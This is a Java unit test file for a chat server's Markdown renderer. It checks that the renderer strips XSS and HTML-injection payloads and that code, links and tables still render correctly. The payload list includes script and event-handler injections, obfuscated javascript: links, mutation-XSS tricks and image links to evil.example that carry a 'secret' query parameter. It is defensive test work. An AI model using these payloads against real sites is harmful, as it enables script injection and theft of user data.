package dev.everbrook.server.chat;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class MarkdownTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "![x](https://evil.example/?q=secret)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![ref]\n\n[ref]: https://evil.example/pixel",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](//evil.example)",
        "<javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=https://evil.example></iframe>",
        "<style>body{display:none}</style>",
        "<form action=/chat method=post><input name=prompt></form>",
        "<svg onload=alert(1)>",
        "<p style=\"position:fixed\">x</p>",
        "<div class=composer onclick=alert(1)>",
        "<chat-app data-chat=x>",
        "<br onclick=alert(1)>",
        "```\"><script>alert(1)</script>\nx\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[a](https://x.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
        "<!--><img src=x onerror=alert(1)>-->",
        "</template><script>alert(1)</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "[![x](https://evil.example/p.gif)](javascript:alert(1))",
        "\\(<img src=x onerror=alert(1)>\\)",
        "$$</math-formula><script>alert(1)</script>$$",
        "x[^\"><img/src=x>]\n\n[^\"><img/src=x>]: <script>alert(1)</script> [l](javascript:alert(1))",
        "[^1]: ![x](javascript:alert(1))",
        "- [x] <input type=checkbox onclick=alert(1)>",
        "| <script> |\n|---|\n| x |",
        "<math-formula onclick=x>a</math-formula> <foot-note label=x> <table-box style=a>",
      })
  void nothingAModelWritesBecomesMoreThanText(String hostile) {
    String html = Markdown.toHtml(hostile);
    String tags = html.replaceAll(">[^<]*<", "><");
    assertThat(tags)
        .doesNotContainIgnoringCase("<script")
        .doesNotContainIgnoringCase("<img")
        .doesNotContainIgnoringCase("<svg")
        .doesNotContainIgnoringCase("<iframe")
        .doesNotContainIgnoringCase("<style")
        .doesNotContainIgnoringCase("<form")
        .doesNotContainIgnoringCase("<chat-app")
        .doesNotContainIgnoringCase("</template")
        .doesNotContainPattern("(?i)<[^>]*\\son\\w+=")
        .doesNotContainPattern("(?i)<[^>]*\\sstyle=")
        .doesNotContainPattern("(?i)href=\"(?!https?:|mailto:)");
  }

  @Test
  void aTagInASentenceStaysReadable() {
    assertThat(Markdown.toHtml("Use List<String> here")).contains("List&lt;String&gt; here");
  }

  @Test
  void aFewHarmlessTagsWork() {
    assertThat(Markdown.toHtml("H<sub>2</sub>O<br>x")).contains("H<sub>2</sub>O<br />x");
  }

  @Test
  void aLinkOpensElsewhereAndTellsNothing() {
    assertThat(Markdown.toHtml("[x](https://a.example/b?c=d)"))
        .contains("href=\"https://a.example/b?c&#61;d\"")
        .contains("target=\"_blank\"")
        .containsPattern("rel=\"[^\"]*noopener[^\"]*\"")
        .containsPattern("rel=\"[^\"]*nofollow[^\"]*\"");
  }

  @Test
  void codeKeepsItsLanguageAndEveryCharacter() {
    assertThat(Markdown.toHtml("```java\nif (a < b && c) {}\n```"))
        .containsPattern("<code-block language=\"java\"><pre [^>]+><code class=\"language-java\">")
        .contains("if (a &lt; b &amp;&amp; c) {}");
  }

  @Test
  void codeInAListStaysInIt() {
    assertThat(Markdown.toHtml("1. x\n   ```sql\n   SELECT 1\n   ```\n2. y"))
        .containsPattern("(?s)<li .*<code-block.*SELECT 1.*</code-block>\\s*</li>\\s*<li ");
  }

  @Test
  void tablesScrollByKeyboard() {
    assertThat(Markdown.toHtml("| a | b |\n|---|--:|\n| 1 | 2 |"))
        .containsPattern("<table-box [^>]*tabindex=\"0\"")
        .containsPattern("<table-box [^>]*role=\"region\"")
        .containsPattern("<table-box [^>]*aria-label=\"Table: a, b\"")
        .contains("<td align=\"right\" dir=\"auto\">2</td>");
  }

  @Test
  void anImageIsALinkNamedByItsDescription() {
    assertThat(Markdown.toHtml("![a *map*](https://a.example/x.png)"))
        .contains("href=\"https://a.example/x.png\"")
        .contains(">[image: a map]</a>")
        .doesNotContain("<img");
  }

  @Test
  void deepNestingIsBounded() {
    assertThat(Markdown.toHtml("> ".repeat(20_000) + "deep")).contains("deep");
  }
}
